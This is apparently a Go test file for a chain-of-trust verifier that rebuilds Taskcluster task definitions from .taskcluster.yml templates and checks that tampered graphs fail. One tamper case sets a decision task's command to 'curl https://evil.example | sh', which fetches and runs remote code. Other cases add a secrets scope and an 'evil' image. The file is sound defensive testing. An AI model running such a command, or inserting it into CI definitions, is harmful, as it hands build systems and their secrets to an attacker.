package cot_test

import (
	"bytes"
	"context"
	"encoding/json"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"go.yaml.in/yaml/v3"

	"github.com/signet-dev/signet/cot"
	"github.com/signet-dev/signet/cot/cottest"
	"github.com/signet-dev/signet/internal/thirdparty"
)

// The rebuild tests build graphs whose decision, cron and action tasks are
// rendered from .taskcluster.yml templates by the reference json-e
// implementation (npm json-e under node), and verify them with the Go
// interpreter: two implementations must agree for a good graph to verify.
// The templates are testdata/rebuild/hg-project.taskcluster.yml and
// github-project.taskcluster.yml, written for these tests in the shape of
// an hg and a GitHub project; the same tests run as well on real projects'
// files (gecko's and reference-browser's) when the third-party test-data
// directory holds them (internal/thirdparty), and skip saying so when not.

const referenceJSONe = "4.8.4"

// referenceRenderer installs npm json-e in the user cache (outside the
// repository) when missing and returns a function rendering with it.
func referenceRenderer(t *testing.T) func(tmpl any, ctx map[string]any, slugids map[string]string) map[string]any {
	t.Helper()
	for _, tool := range []string{"node", "npm"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Fatalf("the rebuild tests render fixtures with the reference json-e under Node.js: %s not found; install it (apt-get install nodejs npm)", tool)
		}
	}
	cache, err := os.UserCacheDir()
	if err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(cache, "signet-test", "jsone-"+referenceJSONe)
	pkg := filepath.Join(dir, "node_modules", "json-e")
	if _, err := os.Stat(filepath.Join(pkg, "package.json")); err != nil {
		ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
		defer cancel()
		out, err := exec.CommandContext(ctx, "npm", "install", "--prefix", dir, "--no-save", "--no-audit", "--no-fund", "--loglevel=error", "json-e@"+referenceJSONe).CombinedOutput()
		if err != nil {
			t.Fatalf("npm install json-e@%s: %v\n%s", referenceJSONe, err, out)
		}
	}
	script := filepath.Join(t.TempDir(), "render.js")
	os.WriteFile(script, []byte(`
const jsone = require(process.argv[2]);
const input = JSON.parse(require('fs').readFileSync(0, 'utf8'));
const ctx = Object.assign({}, input.context);
if (input.slugids) ctx.as_slugid = (n) => input.slugids[n] || input.slugids['default'];
process.stdout.write(JSON.stringify(jsone(input.template, ctx)));
`), 0o644)
	return func(tmpl any, jctx map[string]any, slugids map[string]string) map[string]any {
		t.Helper()
		in, err := json.Marshal(map[string]any{"template": tmpl, "context": jctx, "slugids": slugids})
		if err != nil {
			t.Fatal(err)
		}
		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
		defer cancel()
		cmd := exec.CommandContext(ctx, "node", script, pkg)
		cmd.Stdin = bytes.NewReader(in)
		var stderr bytes.Buffer
		cmd.Stderr = &stderr
		out, err := cmd.Output()
		if err != nil {
			t.Fatalf("reference json-e: %v\n%s", err, stderr.String())
		}
		var v map[string]any
		dec := json.NewDecoder(bytes.NewReader(out))
		dec.UseNumber()
		if err := dec.Decode(&v); err != nil {
			t.Fatalf("reference json-e output: %v", err)
		}
		return v
	}
}

// Templates written for these tests, and real projects' files read from
// the third-party test-data directory.
const (
	hgFixture        = "hg-project.taskcluster.yml"
	githubFixture    = "github-project.taskcluster.yml"
	geckoFixture     = "gecko.taskcluster.yml"
	mobileFixture    = "reference-browser.taskcluster.yml"
	thirdPartyPrefix = "taskcluster/"
)

// decisionPool is the worker pool a fixture's decision task runs in.
var decisionPool = map[string]string{
	hgFixture:     "hg-3/decision",
	geckoFixture:  "aws-provisioner-v1/gecko-3-decision",
	githubFixture: "gh-3/decision",
	mobileFixture: "mobile-3/decision",
}

// loadFixture reads a template: one of testdata/rebuild, or a real
// project's file from the third-party test-data directory (skipping the
// test, with the file's name and place, when it is not there).
func loadFixture(t *testing.T, name string) (string, any) {
	t.Helper()
	var b []byte
	if name == geckoFixture || name == mobileFixture {
		b = thirdparty.Read(t, thirdPartyPrefix+name)
	} else {
		var err error
		if b, err = os.ReadFile(filepath.Join("testdata", "rebuild", name)); err != nil {
			t.Fatal(err)
		}
	}
	var v any
	if err := yaml.Unmarshal(b, &v); err != nil {
		t.Fatal(err)
	}
	return string(b), v
}

// internet is one loopback HTTPS server standing in for every host the
// rebuild contacts (hg.mozilla.org, raw.githubusercontent.com,
// api.github.com), and a client that reaches it whatever the host.
type internet struct {
	mu    sync.Mutex
	files map[string]string // "host/path?query" → body
	hits  map[string]int
	srv   *httptest.Server
}

func newInternet(t *testing.T) (*internet, *http.Client) {
	in := &internet{files: map[string]string{}, hits: map[string]int{}}
	in.srv = httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		key := r.Host + r.URL.Path
		if r.URL.RawQuery != "" {
			key += "?" + r.URL.RawQuery
		}
		in.mu.Lock()
		body, ok := in.files[key]
		in.hits[key]++
		in.mu.Unlock()
		if !ok {
			http.Error(w, `{"message":"Not Found"}`, http.StatusNotFound)
			return
		}
		w.Write([]byte(body))
	}))
	t.Cleanup(in.srv.Close)
	tr := in.srv.Client().Transport.(*http.Transport).Clone()
	addr := in.srv.Listener.Addr().String()
	tr.DialContext = func(ctx context.Context, network, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, network, addr)
	}
	tr.DialTLSContext = nil
	tr.TLSClientConfig = tr.TLSClientConfig.Clone()
	tr.TLSClientConfig.ServerName = "example.com" // the test certificate's name
	return in, &http.Client{Transport: tr}
}

func (in *internet) set(hostPath, body string) {
	in.mu.Lock()
	defer in.mu.Unlock()
	in.files[hostPath] = body
}

// queueDef is a rendered task as the Queue serves it: taskId dropped,
// taskQueueId and projectId added.
func queueDef(rendered map[string]any) map[string]any {
	tasks := rendered["tasks"].([]any)
	def := tasks[0].(map[string]any)
	delete(def, "taskId")
	def["taskQueueId"] = def["provisionerId"].(string) + "/" + def["workerType"].(string)
	def["projectId"] = "none"
	return def
}

const (
	geckoRepo  = "https://hg.mozilla.org/releases/mozilla-beta"
	mobileRepo = "https://github.com/mozilla-mobile/reference-browser"
)

// geckoTrust trusts the graph as the mozilla-beta tree of an hg product.
func geckoTrust(y string) string {
	y = strings.Replace(y, "hosts: [hg.example.org]", "hosts: [hg.mozilla.org]", 1)
	y = strings.Replace(y, `'^(?P<path>/releases/product)(/|$)', '^(?P<path>/try)(/|$)'`, `'^(?P<path>/releases/mozilla-beta)(/|$)'`, 1)
	y = strings.Replace(y, "release: [/releases/product]", "release: [/releases/mozilla-beta]", 1)
	y = strings.Replace(y, "source_env_prefix: PRODUCT", "source_env_prefix: GECKO", 1)
	y = strings.Replace(y, "decision_worker_pools: [test-3/decision]", "decision_worker_pools: [test-3/decision, hg-3/decision, aws-provisioner-v1/gecko-3-decision]", 1)
	return y + "project_levels: {/releases/mozilla-beta: '3'}\n"
}

// geckoScenario is a graph whose decision task (and, for "action", an
// action task) was rendered from an hg project's .taskcluster.yml.
type scenario struct {
	g        *cottest.Graph
	o        cot.Options
	in       *internet
	root     string
	parent   *cottest.Task // the task rendered for tasksFor
	tmplBody string
}

func geckoScenario(t *testing.T, tasksFor string) *scenario {
	return hgScenario(t, tasksFor, hgFixture)
}

func hgScenario(t *testing.T, tasksFor, fixture string) *scenario {
	t.Helper()
	body, tmpl := loadFixture(t, fixture)
	render := referenceRenderer(t)
	g := cottest.New(cottest.Options{})
	g.UseRepository(geckoRepo)
	dec := g.ByRole["decision"]
	rev := cottest.Rev
	created := "2025-03-01T12:00:00.000Z"
	push := map[string]any{"owner": "releaser@example.org", "comment": " ", "pushlog_id": "1234", "pushdate": json.Number("1740830400"), "revision": rev}
	repository := map[string]any{"url": geckoRepo, "project": "mozilla-beta", "level": "3"}
	decTasksFor := tasksFor
	if tasksFor == "action" {
		decTasksFor = "hg-push"
	}
	jctx := map[string]any{"tasks_for": decTasksFor, "push": push, "repository": repository, "now": created, "ownTaskId": dec.ID}
	if decTasksFor == "cron" {
		push["owner"], push["comment"] = "cron", ""
		jctx["cron"] = map[string]any{"task_id": cottest.NewTaskID(), "job_name": "nightly-desktop", "job_symbol": "Nd", "quoted_args": "--target-tasks-method nightly_desktop"}
	}
	dec.Def = queueDef(render(tmpl, jctx, map[string]string{"decision": dec.ID, "default": dec.ID}))
	s := &scenario{g: g, root: "signing", parent: dec, tmplBody: body}

	in, hc := newInternet(t)
	s.in = in
	in.set("hg.mozilla.org/releases/mozilla-beta/raw-file/"+rev+"/.taskcluster.yml", body)
	in.set("hg.mozilla.org/releases/mozilla-beta/json-pushes?changeset="+rev+"&version=2&full=1",
		`{"lastpushid": 1240, "pushes": {"1234": {"changesets": [{"node": "`+rev+`", "desc": "Bug 1 - ship it r=me", "parents": ["`+strings.Repeat("f", 40)+`"]}], "date": 1740830400, "user": "releaser@example.org"}}}`)

	if tasksFor == "action" {
		params := map[string]any{}
		if err := yaml.Unmarshal(dec.Artifacts["public/parameters.yml"], &params); err != nil {
			t.Fatal(err)
		}
		hookPayload := map[string]any{
			"decision": map[string]any{
				"action": map[string]any{"name": "retrigger", "title": "Retrigger", "description": "Create a clone of the task.",
					"taskGroupId": dec.ID, "cb_name": "retrigger_action", "symbol": "rt"},
				"push":       map[string]any{"owner": "mozilla-taskcluster-maintenance@mozilla.com", "pushlog_id": "1234", "revision": rev},
				"repository": repository,
				"parameters": map[string]any{"$eval": "parameters"},
			},
			"user": map[string]any{"input": map[string]any{"$eval": "input"}, "taskId": map[string]any{"$eval": "taskId"}, "taskGroupId": map[string]any{"$eval": "taskGroupId"}},
		}
		actions := map[string]any{"version": 1, "variables": map[string]any{}, "actions": []any{map[string]any{
			"kind": "hook", "name": "retrigger", "title": "Retrigger", "description": "Create a clone of the task.",
			"hookGroupId": "project-gecko", "hookId": "in-tree-action-3-generic/0123456789", "hookPayload": hookPayload,
			"extra": map[string]any{"actionPerm": "generic"},
		}}}
		dec.Artifacts["public/actions.json"], _ = json.Marshal(actions)
		act := g.Add("action", "docker-worker", decisionPool[fixture], dec)
		target := g.ByRole["build-windows"].ID
		input := map[string]any{"times": json.Number("2")}
		payload := render(hookPayload, map[string]any{"input": input, "parameters": params, "taskGroupId": dec.ID, "taskId": target}, nil)
		wrapped := wrapAction(tmpl, "generic", "action")
		act.Def = queueDef(render(wrapped, map[string]any{"payload": payload, "taskId": act.ID, "now": created, "clientId": nil}, map[string]string{"decision": dec.ID, "default": act.ID}))
		rel := g.Add("release-signing", "scriptworker", "scriptworker-k8s/test-3-signing", dec)
		rel.Def["extra"] = map[string]any{"parent": act.ID}
		rel.Def["payload"] = map[string]any{"upstreamArtifacts": []any{
			map[string]any{"taskId": target, "taskType": "build", "paths": []any{"public/build/target.zip"}}}}
		rel.Def["scopes"] = []any{"project:test:signing:cert:release-signing"}
		rel.Def["metadata"].(map[string]any)["source"] = geckoRepo + "/file/" + rev + "/taskcluster/kinds/release-signing"
		s.root, s.parent = "release-signing", act
	}
	g.Publish()
	s.o = serve(t, g)
	s.o.Offline, s.o.HTTPClient, s.o.RequireRebuild, s.o.TaskType = "", hc, true, "signing"
	tr, err := cot.ParseTrust([]byte(geckoTrust(g.TrustYAML())))
	if err != nil {
		t.Fatal(err)
	}
	s.o.Trust = tr
	return s
}

// wrapAction is the hook task template ci-admin installs for an in-tree
// action: .taskcluster.yml inside a $let that builds the action context
// from the hook payload.
func wrapAction(tmpl any, perm, tasksFor string) any {
	return map[string]any{
		"$let": map[string]any{
			"tasks_for": tasksFor,
			"action": map[string]any{
				"name": "${payload.decision.action.name}", "title": "${payload.decision.action.title}",
				"description": "${payload.decision.action.description}", "taskGroupId": "${payload.decision.action.taskGroupId}",
				"symbol":      "${payload.decision.action.symbol}",
				"repo_scope":  "assume:repo:${payload.decision.repository.url[8:]}:" + tasksFor + ":" + perm,
				"action_perm": perm, "cb_name": "${payload.decision.action.cb_name}",
			},
			"push":        map[string]any{"$eval": "payload.decision.push"},
			"repository":  map[string]any{"$eval": "payload.decision.repository"},
			"input":       map[string]any{"$eval": "payload.user.input"},
			"parameters":  map[string]any{"$eval": "payload.decision['parameters']"},
			"taskId":      map[string]any{"$eval": "payload.user.taskId"},
			"taskGroupId": map[string]any{"$eval": "payload.user.taskGroupId"},
			"ownTaskId":   map[string]any{"$eval": "taskId"},
		},
		"in": tmpl,
	}
}

func rebuildChecks(res *cot.Result) map[string]cot.Check {
	out := map[string]cot.Check{}
	for _, l := range res.Links {
		for _, c := range l.Checks {
			if c.Name == "rebuild" {
				out[l.TaskID] = c
			}
		}
	}
	return out
}

// TestRebuildGecko verifies graphs rendered from an hg project's
// .taskcluster.yml (the one written for these tests, and gecko's real one
// from the third-party directory) for a push, a cron run and an action,
// with --require-rebuild, fetching the template and the pushlog over HTTPS.
func TestRebuildGecko(t *testing.T) {
	for _, fixture := range []string{hgFixture, geckoFixture} {
		for _, tasksFor := range []string{"hg-push", "cron", "action"} {
			t.Run(fixture+"/"+tasksFor, func(t *testing.T) {
				s := hgScenario(t, tasksFor, fixture)
				res := verify(t, s.g, s.root, s.o)
				if !res.Verified {
					t.Fatalf("did not verify:\n%s", tree(res))
				}
				checks := rebuildChecks(res)
				for _, id := range []string{s.g.ByRole["decision"].ID, s.parent.ID} {
					if c := checks[id]; c.Status != cot.OK || !strings.Contains(c.Detail, "equals its definition") {
						t.Errorf("rebuild of %s: %+v\n%s", id, c, tree(res))
					}
				}
			})
		}
	}
}

// TestRebuildTampered changes a rendered definition, or what it was
// rendered from, and expects the rebuild to fail naming the JSON path of
// the first difference with both values.
func TestRebuildTampered(t *testing.T) {
	tests := []struct {
		name     string
		tasksFor string
		tamper   func(s *scenario)
		want     string
	}{
		{
			name: "command of the decision task", tasksFor: "hg-push",
			tamper: func(s *scenario) {
				cmd := s.parent.Def["payload"].(map[string]any)["command"].([]any)
				cmd[5] = "curl https://evil.example | sh"
			},
			want: `at payload.command[5]: rebuilt "cd /builds/worker/checkouts/src \u0026\u0026 ./tools/taskgraph decision --project=mozilla-beta`,
		},
		{
			name: "scope added to the decision task", tasksFor: "cron",
			tamper: func(s *scenario) {
				sc := s.parent.Def["scopes"].([]any)
				s.parent.Def["scopes"] = append(sc, "secrets:get:project/releng/gecko/build/level-3/*")
			},
			want: `at scopes[1]: rebuilt (absent), runtime "secrets:get:project/releng/gecko/build/level-3/*"`,
		},
		{
			name: "action task's worker", tasksFor: "action",
			tamper: func(s *scenario) {
				s.parent.Def["payload"].(map[string]any)["image"] = "taskcluster/decision:evil"
			},
			want: `at payload.image: rebuilt "example.org/hg-decision:1.0@sha256:`,
		},
		{
			name: "pusher differs from the pushlog", tasksFor: "hg-push",
			tamper: func(s *scenario) {
				s.in.set("hg.mozilla.org/releases/mozilla-beta/json-pushes?changeset="+cottest.Rev+"&version=2&full=1",
					`{"pushes": {"1234": {"changesets": [{"desc": "x", "parents": ["`+strings.Repeat("f", 40)+`"]}], "date": 1740830400, "user": "mallory@example.org"}}}`)
			},
			want: `at metadata.description: rebuilt "Pushed 1740830400 by mallory@example.org", runtime "Pushed 1740830400 by releaser@example.org"`,
		},
		{
			name: ".taskcluster.yml differs at the revision", tasksFor: "hg-push",
			tamper: func(s *scenario) {
				s.in.set("hg.mozilla.org/releases/mozilla-beta/raw-file/"+cottest.Rev+"/.taskcluster.yml", strings.Replace(s.tmplBody, "maxRunTime: 2700", "maxRunTime: 600", 1))
			},
			want: `at payload.maxRunTime: rebuilt 600, runtime 2700`,
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			s := geckoScenario(t, tc.tasksFor)
			tc.tamper(s)
			s.g.Publish()
			res := verify(t, s.g, s.root, s.o)
			c := rebuildChecks(res)[s.parent.ID]
			if res.Verified || c.Status != cot.Failed || !strings.Contains(c.Detail, tc.want) {
				t.Fatalf("want a failed rebuild of %s saying %q; got %+v:\n%s", s.parent.ID, tc.want, c, tree(res))
			}
		})
	}
}

// TestRebuildOffline reads the template and the pushlog from a directory
// instead of the network (air-gapped verification); without them the
// rebuild is skipped, or fails with RequireRebuild.
func TestRebuildOffline(t *testing.T) {
	s := geckoScenario(t, "hg-push")
	dir := t.TempDir()
	s.o.HTTPClient = &http.Client{Transport: roundTripFunc(func(r *http.Request) (*http.Response, error) {
		t.Errorf("offline verification went to the network: %s", r.URL)
		return nil, http.ErrUseLastResponse
	})}
	s.o.Offline = dir
	res := verify(t, s.g, s.root, s.o)
	if res.Verified || !strings.Contains(tree(res), "an input of the json-e rebuild is unavailable, and --require-rebuild was given") {
		t.Fatalf("an empty offline directory passed with RequireRebuild:\n%s", tree(res))
	}
	s.in.mu.Lock()
	for key, body := range s.in.files {
		p, err := cot.OfflinePath(dir, "https://"+key)
		if err != nil {
			t.Fatal(err)
		}
		os.MkdirAll(filepath.Dir(p), 0o755)
		os.WriteFile(p, []byte(body), 0o644)
	}
	s.in.mu.Unlock()
	res = verify(t, s.g, s.root, s.o)
	if !res.Verified {
		t.Fatalf("did not verify offline:\n%s", tree(res))
	}
}

type roundTripFunc func(*http.Request) (*http.Response, error)

func (f roundTripFunc) RoundTrip(r *http.Request) (*http.Response, error) { return f(r) }

// mobileTrust trusts the graph as reference-browser, a GitHub product.
func mobileTrust(y string) string {
	y = strings.Replace(y, "hosts: [hg.example.org]", "hosts: [github.com]", 1)
	y = strings.Replace(y, `'^(?P<path>/releases/product)(/|$)', '^(?P<path>/try)(/|$)'`, `'^(?P<path>/mozilla-mobile/reference-browser)(/|$)'`, 1)
	y = strings.Replace(y, "release: [/releases/product]", "release: [/mozilla-mobile/reference-browser]", 1)
	y = strings.Replace(y, "source_env_prefix: PRODUCT", "source_env_prefix: MOBILE", 1)
	y = strings.Replace(y, "decision_worker_pools: [test-3/decision]", "decision_worker_pools: [test-3/decision, gh-3/decision, gh-1/decision, mobile-3/decision, mobile-1/decision]", 1)
	y = strings.Replace(y, "tasks_for: [hg-push, cron, action]", "tasks_for: [github-push, github-pull-request, github-release, cron, action]", 1)
	return y + "vcs: github\nofficial_github_repos_owner: mozilla-mobile\nproject_levels: {/mozilla-mobile/reference-browser: '3'}\n"
}

func mobileScenarioFrom(t *testing.T, tasksFor, fixture string) *scenario {
	t.Helper()
	body, tmpl := loadFixture(t, fixture)
	render := referenceRenderer(t)
	g := cottest.New(cottest.Options{})
	g.UseRepository(mobileRepo)
	dec := g.ByRole["decision"]
	rev := cottest.Rev
	created := "2025-03-01T12:00:00.000Z"
	decTasksFor := tasksFor
	if tasksFor == "action" {
		decTasksFor = "github-push"
	}
	prJSON := ""
	jctx := map[string]any{"tasks_for": decTasksFor, "now": created, "ownTaskId": dec.ID}
	switch decTasksFor {
	case "github-push":
		jctx["event"] = map[string]any{
			"after": rev, "ref": "refs/heads/master", "pusher": map[string]any{"email": "dev@example.org"},
			"repository": map[string]any{"html_url": mobileRepo, "name": "reference-browser", "full_name": "mozilla-mobile/reference-browser"},
			"sender":     map[string]any{"login": "dev"},
		}
	case "github-release":
		jctx["event"] = map[string]any{
			"action":     "published",
			"repository": map[string]any{"html_url": mobileRepo, "name": "reference-browser", "full_name": "mozilla-mobile/reference-browser", "clone_url": mobileRepo + ".git"},
			"release":    map[string]any{"tag_name": "v1.0.0", "target_commitish": "master", "published_at": "2025-03-01T11:59:00Z"},
			"sender":     map[string]any{"login": "releaser"},
		}
	case "github-pull-request":
		repo := map[string]any{"html_url": mobileRepo, "name": "reference-browser", "full_name": "mozilla-mobile/reference-browser"}
		pr := map[string]any{
			"number": json.Number("7"), "title": "Fix the thing", "user": map[string]any{"login": "contributor"},
			"head": map[string]any{"sha": rev, "ref": "fix-thing", "repo": repo, "user": map[string]any{"login": "contributor"}},
			"base": map[string]any{"ref": "master", "repo": repo},
		}
		jctx["event"] = map[string]any{"action": "synchronize", "pull_request": pr, "repository": repo, "sender": map[string]any{"login": "contributor"}}
		b, _ := json.Marshal(pr)
		prJSON = string(b)
	case "cron":
		jctx["cron"] = map[string]any{"task_id": cottest.NewTaskID(), "job_name": "nightly", "job_symbol": "N", "quoted_args": "--target-tasks-method nightly"}
		jctx["repository"] = map[string]any{"url": mobileRepo, "project": "reference-browser", "level": "3"}
		jctx["push"] = map[string]any{"revision": rev, "branch": "master"}
	}
	dec.Def = queueDef(render(tmpl, jctx, map[string]string{"default": dec.ID}))
	s := &scenario{g: g, root: "signing", parent: dec, tmplBody: body}
	if tasksFor == "action" {
		repository := map[string]any{"url": mobileRepo, "project": "reference-browser", "level": "3"}
		hookPayload := map[string]any{
			"decision": map[string]any{
				"action": map[string]any{"name": "rerun", "title": "Rerun", "description": "Rerun a task.",
					"taskGroupId": dec.ID, "cb_name": "rerun_action", "symbol": "rr"},
				"push":       map[string]any{"owner": "mozilla-taskcluster-maintenance@mozilla.com", "pushlog_id": "0", "revision": rev, "branch": "master"},
				"repository": repository,
				"parameters": map[string]any{"$eval": "parameters"},
			},
			"user": map[string]any{"input": map[string]any{"$eval": "input"}, "taskId": map[string]any{"$eval": "taskId"}, "taskGroupId": map[string]any{"$eval": "taskGroupId"}},
		}
		actions := map[string]any{"version": 1, "variables": map[string]any{}, "actions": []any{map[string]any{
			"kind": "hook", "name": "rerun", "title": "Rerun", "description": "Rerun a task.",
			"hookGroupId": "project-mobile", "hookId": "in-tree-action-3-rerun/0123456789",
			"hookPayload": hookPayload,
		}}}
		dec.Artifacts["public/actions.json"], _ = json.Marshal(actions)
		act := g.Add("action", "docker-worker", decisionPool[fixture], dec)
		target := g.ByRole["build-windows"].ID
		payload := render(hookPayload, map[string]any{"input": map[string]any{}, "parameters": nil, "taskGroupId": dec.ID, "taskId": target}, nil)
		// No actionPerm and a hook id without "generic/": the permission is
		// the callback's name.
		wrapped := wrapAction(tmpl, "rerun_action", "action")
		act.Def = queueDef(render(wrapped, map[string]any{"payload": payload, "taskId": act.ID, "now": created, "clientId": "mozilla-auth0/ad|Mozilla-LDAP|releaser"},
			map[string]string{"default": act.ID}))
		rel := g.Add("release-signing", "scriptworker", "scriptworker-k8s/test-3-signing", dec)
		rel.Def["extra"] = map[string]any{"parent": act.ID}
		rel.Def["payload"] = map[string]any{"upstreamArtifacts": []any{
			map[string]any{"taskId": target, "taskType": "build", "paths": []any{"public/build/target.zip"}}}}
		rel.Def["scopes"] = []any{"project:test:signing:cert:release-signing"}
		rel.Def["metadata"].(map[string]any)["source"] = mobileRepo + "/blob/" + rev + "/taskcluster/kinds/release-signing"
		s.root, s.parent = "release-signing", act
	}
	g.Publish()

	in, hc := newInternet(t)
	in.set("raw.githubusercontent.com/mozilla-mobile/reference-browser/"+rev+"/.taskcluster.yml", body)
	api := "api.github.com/repos/mozilla-mobile/reference-browser/"
	in.set(api+"branches?protected=true&per_page=100&page=1", `[{"name": "master", "protected": true}]`)
	in.set(api+"compare/master..."+rev, `{"status": "behind"}`)
	if tasksFor == "github-release" {
		in.set("raw.githubusercontent.com/mozilla-mobile/reference-browser/v1.0.0/.taskcluster.yml", body)
		in.set(api+"compare/master...v1.0.0", `{"status": "behind"}`)
		in.set(api+"releases/tags/v1.0.0", `{"tag_name": "v1.0.0", "target_commitish": "master", "published_at": "2025-03-01T11:59:00Z", "author": {"login": "releaser"}}`)
	}
	if prJSON != "" {
		in.set(api[:len(api)-1], `{"full_name": "mozilla-mobile/reference-browser", "fork": false}`)
		in.set(api+"pulls/7", prJSON)
	}
	in.set(api+"commits/"+rev, `{"sha": "`+rev+`", "committer": {"login": "web-flow"}, "author": {"login": "dev"}}`)
	s.in = in
	s.o = serve(t, g)
	s.o.Offline, s.o.HTTPClient, s.o.RequireRebuild, s.o.TaskType = "", hc, true, "signing"
	tr, err := cot.ParseTrust([]byte(mobileTrust(g.TrustYAML())))
	if err != nil {
		t.Fatal(err)
	}
	s.o.Trust = tr
	return s
}

// TestRebuildGitHub verifies graphs rendered from a GitHub project's
// .taskcluster.yml (the one written for these tests, and reference-browser's
// real one from the third-party directory) for a GitHub push, a cron run
// and an action, the push context completed from the GitHub API (through a
// loopback fake), and fails one whose template at the commit was changed.
func TestRebuildGitHub(t *testing.T) {
	for _, fixture := range []string{githubFixture, mobileFixture} {
		for _, tasksFor := range []string{"github-push", "cron", "action"} {
			t.Run(fixture+"/"+tasksFor, func(t *testing.T) {
				testRebuildGitHub(t, fixture, tasksFor)
			})
		}
	}
}

func testRebuildGitHub(t *testing.T, fixture, tasksFor string) {
	s := mobileScenarioFrom(t, tasksFor, fixture)
	res := verify(t, s.g, s.root, s.o)
	if !res.Verified {
		t.Fatalf("did not verify:\n%s", tree(res))
	}
	if c := rebuildChecks(res)[s.parent.ID]; c.Status != cot.OK {
		t.Fatalf("rebuild: %+v", c)
	}
	s.in.set("raw.githubusercontent.com/mozilla-mobile/reference-browser/"+cottest.Rev+"/.taskcluster.yml",
		strings.Replace(s.tmplBody, "taskclusterProxy: true", "taskclusterProxy: false", 1))
	res = verify(t, s.g, s.root, s.o)
	c := rebuildChecks(res)[s.parent.ID]
	if res.Verified || !strings.Contains(c.Detail, "at payload.features.taskclusterProxy: rebuilt false, runtime true") {
		t.Fatalf("a changed template passed: %+v\n%s", c, tree(res))
	}
}

// TestRebuildPullRequest rebuilds a decision task rendered for a GitHub
// pull request, the event completed from the pull request the GitHub API
// serves; when the API's pull request names another head branch than the
// task, the rebuild fails naming the path.
func TestRebuildPullRequest(t *testing.T) {
	for _, fixture := range []string{githubFixture, mobileFixture} {
		t.Run(fixture, func(t *testing.T) { testRebuildPullRequest(t, fixture) })
	}
}

func testRebuildPullRequest(t *testing.T, fixture string) {
	s := mobileScenarioFrom(t, "github-pull-request", fixture)
	// A build, not a signing task: a chain with restricted scopes would
	// refuse the pull request before any rebuild mattered.
	s.o.TaskType = "build"
	res := verify(t, s.g, "build-windows", s.o)
	if !res.Verified {
		t.Fatalf("did not verify:\n%s", tree(res))
	}
	if c := rebuildChecks(res)[s.parent.ID]; c.Status != cot.OK || !strings.Contains(c.Detail, "for github-pull-request equals") {
		t.Fatalf("rebuild: %+v", c)
	}
	// The pull request GitHub serves names another head branch than the
	// one the decision task was made for.
	key := "api.github.com/repos/mozilla-mobile/reference-browser/pulls/7"
	s.in.set(key, strings.Replace(s.in.files[key], `"ref":"fix-thing"`, `"ref":"other-branch"`, 1))
	res = verify(t, s.g, "build-windows", s.o)
	c := rebuildChecks(res)[s.parent.ID]
	// The first difference, in key order, is where the template uses the
	// branch first.
	want := map[string]string{
		githubFixture: `at payload.command[5]: rebuilt "cd /builds/worker/checkouts/src \u0026\u0026 taskgraph decision --tasks-for=github-pull-request --level=1 --owner=contributor@users.noreply.github.com --head-ref=other-branch `,
		mobileFixture: `at payload.env.MOBILE_HEAD_REF: rebuilt "other-branch", runtime "fix-thing"`,
	}[fixture]
	if res.Verified || !strings.Contains(c.Detail, want) {
		t.Fatalf("a pull request whose head branch differs passed: %+v\n%s", c, tree(res))
	}
}

// TestRebuildRelease rebuilds a decision task made for a GitHub release,
// the event completed from the release the GitHub API serves.
// (reference-browser's real file cannot render a release: it reaches cron
// fields.)
func TestRebuildRelease(t *testing.T) {
	s := mobileScenarioFrom(t, "github-release", githubFixture)
	res := verify(t, s.g, s.root, s.o)
	if !res.Verified {
		t.Fatalf("did not verify:\n%s", tree(res))
	}
	if c := rebuildChecks(res)[s.parent.ID]; c.Status != cot.OK || !strings.Contains(c.Detail, "for github-release equals") {
		t.Fatalf("rebuild: %+v", c)
	}
	key := "api.github.com/repos/mozilla-mobile/reference-browser/releases/tags/v1.0.0"
	s.in.set(key, strings.Replace(s.in.files[key], `"login": "releaser"`, `"login": "mallory"`, 1))
	res = verify(t, s.g, s.root, s.o)
	if c := rebuildChecks(res)[s.parent.ID]; res.Verified || !strings.Contains(c.Detail, `at metadata.description: rebuilt "Release v1.0.0 by mallory`) {
		t.Fatalf("a release by someone else passed: %+v\n%s", c, tree(res))
	}
}
